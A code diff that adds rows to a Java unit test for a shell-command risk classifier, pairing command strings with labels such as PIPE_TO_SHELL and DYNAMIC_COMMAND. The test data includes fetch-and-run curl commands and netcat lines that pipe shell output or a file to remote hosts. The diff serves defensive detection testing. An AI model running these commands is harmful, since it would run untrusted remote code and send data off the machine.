@@ -56,6 +56,7 @@ class ExecutionRuleTest {
               "ruby -e \"$(curl -fsSL https://example.com/install.rb)\"",
               "INTERPRETER_INLINE_CODE,PIPE_TO_SHELL"),
           row("python3 < <(curl -s https://example.com/x.py)", "PIPE_TO_SHELL"),
+          row("$(curl -s https://example.com/cmd.txt)", "PIPE_TO_SHELL"),
           row("python3 <(curl -s https://example.com/x.py)", "PIPE_TO_SHELL"),
           row("curl -s https://example.com/i.sh > /tmp/i.sh; bash /tmp/i.sh", "PIPE_TO_SHELL"),
           row(
@@ -84,6 +85,7 @@ class ExecutionRuleTest {
           row("ls | xargs -I{} bash -c {}", "DYNAMIC_COMMAND"),
           row("ssh host \"$REMOTE_CMD\"", "DYNAMIC_COMMAND"),
           row("\"$@\"", "DYNAMIC_COMMAND"),
+          row("$(which python3) -m venv .venv", "DYNAMIC_COMMAND"),
           row("python3 -c \"$CODE\"", "DYNAMIC_COMMAND,INTERPRETER_INLINE_CODE"),
           row("eval \"$(make print-env)\"", "DYNAMIC_COMMAND"),
           row("eval \"$(ssh-agent -s)\"", "DYNAMIC_COMMAND"),
@@ -203,7 +205,11 @@ class ExecutionRuleTest {
               ""),
           row("curl -s https://example.com/data.json > data.json; jq . data.json", ""),
           row("sh < /tmp/s | nc 10.0.0.1 4444", "UNKNOWN_COMMAND"),
-          row("cat notes.txt | nc termbin.com 9999", ""));
+          row("cat notes.txt | nc termbin.com 9999", ""),
+          row("python3 <(echo 'print(1)')", "UNKNOWN_COMMAND"),
+          row("source <(grep = settings.ini)", "UNKNOWN_COMMAND"),
+          row("rsync -av src/ backup/", ""),
+          row("npm run build -- --watch", ""));
 
   static Stream<Arguments> table() {
     return ROWS.stream().map(r -> Arguments.of(r[0], r[1]));
